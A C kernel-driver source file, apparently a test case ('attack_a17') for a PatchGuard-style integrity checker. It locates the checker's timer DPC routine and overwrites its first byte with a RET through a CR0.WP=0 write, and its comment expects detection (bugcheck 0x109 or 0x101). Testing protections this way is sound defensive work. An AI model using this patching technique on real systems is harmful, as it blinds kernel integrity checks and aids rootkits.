/* attack_a17 (A17): make PatchGuard's check routine return at once. Finds
 * the checker's timer as attack_a15 does, takes its DPC routine and writes
 * a RET over its first byte through CR0.WP=0. Expected: 0x109, type 0x1
 * (the other context hashes that text) or 0x101 (the timer path stops
 * re-arming and misses its heartbeat). */
#include "attack.h"

#define PROBE_DELAY_NS (3600ull * 1000000000ull)

static struct ktimer probe;
static struct dpc probe_dpc;
static void probe_fn(struct dpc *d, void *ctx) {}

status_t driver_entry(struct driver_object *drv)
{
	struct ktimer *found[8];
	dpc_init(&probe_dpc, probe_fn, NULL);
	timer_init(&probe, &probe_dpc);
	timer_set(&probe, PROBE_DELAY_NS, 0);
	uint64_t f = a_cli();
	int n = a_kernel_timers(&probe, 0, found, 8);
	uint64_t routine = n > 0 ? (uint64_t)found[0]->dpc->fn : 0;
	a_restore(f);
	timer_cancel(&probe);
	if (!routine) {
		printk("attack_a17: checker timer not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	static const uint8_t ret = 0xC3;
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	a_write_protected((void *)routine, &ret, 1);
	printk("attack_a17: DPC routine at kernel+0x%lx now returns at once\n", routine - a_kernel_base());
	a_patched("attack_a17");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
